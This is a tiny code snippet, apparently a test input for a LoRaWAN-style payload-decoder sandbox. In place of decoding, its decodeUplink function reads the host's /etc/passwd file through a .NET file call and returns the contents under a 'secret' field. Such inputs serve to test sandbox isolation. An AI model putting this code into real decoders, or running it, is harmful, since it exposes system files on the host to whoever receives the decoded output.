function decodeUplink(input) {
  var file = System.IO.File.ReadAllText('/etc/passwd');
  return { data: { secret: file } };
}
